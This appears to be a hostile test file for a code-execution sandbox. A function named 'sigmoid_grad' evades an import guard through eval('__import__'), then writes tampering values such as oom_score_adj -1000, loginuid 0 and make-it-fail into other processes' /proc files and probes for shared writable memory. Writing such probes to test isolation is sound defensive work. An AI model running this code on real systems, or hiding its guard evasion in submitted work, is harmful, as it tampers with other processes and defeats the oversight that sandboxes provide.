"""Hostile: write to every file under /proc/<pid>/ of the warm parent and of the
child waiting for the next job (oom_score_adj, comm, timerslack_ns, clear_refs,
coredump_filter, attr/*, ...), and look for memory the processes share."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
time = _m("time")

VALUES = {"oom_score_adj": b"-1000", "oom_adj": b"-17", "comm": b"hacked", "timerslack_ns": b"1000000000",
          "clear_refs": b"1", "coredump_filter": b"0x7f", "sched_autogroup": b"19", "autogroup": b"19",
          "loginuid": b"0", "sessionid": b"1", "make-it-fail": b"1", "fail-nth": b"1", "projid_map": b"0 0 1"}


def sigmoid_grad(x):
    me = os.getpid()
    for _ in range(200):  # the next job's child is forked just after this one started
        if len([p for p in os.listdir("/proc") if p.isdigit()]) >= 3:
            break
        time.sleep(0.01)
    written, tried = [], 0
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
        for root in (f"/proc/{pid}", f"/proc/{pid}/task/{pid}", f"/proc/{pid}/attr"):
            try:
                names = os.listdir(root)
            except OSError:
                continue
            for name in names:
                path = f"{root}/{name}"
                if name in ("mem", "environ", "cmdline", "task", "fd", "fdinfo", "ns", "net", "attr", "map_files"):
                    continue
                tried += 1
                try:
                    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    os.write(fd, VALUES.get(name, b"1"))
                    written.append(path)
                except OSError:
                    pass
                finally:
                    os.close(fd)
    shared = [line for line in open("/proc/self/maps") if line.split()[1][1] == "w" and line.split()[1][3] == "s"]
    raise RuntimeError(f"tried={tried} written={written} shared_writable={shared}")
